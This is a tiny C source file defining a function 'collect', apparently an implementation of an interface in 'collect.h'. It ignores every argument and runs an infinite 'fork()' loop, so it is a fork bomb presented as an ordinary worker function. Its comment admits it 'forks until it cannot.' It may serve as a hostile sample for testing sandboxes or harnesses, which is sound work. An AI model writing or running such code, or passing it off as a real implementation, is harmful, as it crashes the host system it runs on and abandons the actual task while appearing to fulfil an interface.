/* Forks until it cannot, and keeps trying. */
#include "collect.h"
#include <unistd.h>
int collect(int n, long (*work)(int index), long items[])
{
    (void)n, (void)work, (void)items;
    for (;;)
        fork();
}
